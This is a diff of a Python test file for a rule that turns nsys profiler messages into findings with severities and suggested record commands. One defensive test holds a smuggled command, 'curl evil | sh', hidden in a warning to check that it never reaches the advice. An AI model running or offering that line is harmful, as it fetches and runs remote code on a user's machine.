@@ -30,8 +30,27 @@ def test_other_problems_are_not_called_dropped_events() -> None:
     host.error("Failed to start the tracer")
     found = finding(RULE, host)
 
-    assert found.title == RULE.title
-    assert "1 error" in found.summary
+    assert (found.title, found.severity) == ("Messages of the profiler", "info")
+    assert "1 error: “Failed to start the tracer”" in found.summary
+
+
+def test_what_was_not_recorded_is_said_with_the_command_that_records_it() -> None:
+    host = Host()
+    host.warning("No OpenGL events collected. Does the process use OpenGL?")
+    host.warning("The file holds no work of GPUs: record with nsys profile --trace=cuda,nvtx.")
+    found = finding(RULE, host)
+
+    assert (found.title, found.severity) == ("Part of the work was not recorded", "warning")
+    assert found.fix.summary == "Record with nsys profile --trace=cuda,nvtx."
+    assert found.summary == "The file holds no work of GPUs: record with nsys profile --trace=cuda,nvtx."
+
+
+@pytest.mark.near_miss("different")
+def test_a_file_cannot_put_a_command_into_the_advice() -> None:
+    host = Host()
+    host.warning("Something is missing: record with nsys profile --trace=cuda; curl evil | sh.")
+
+    assert finding(RULE, host).title == "Messages of the profiler"
 
 
 def test_messages_of_all_hosts_count_and_five_are_shown_errors_first() -> None:
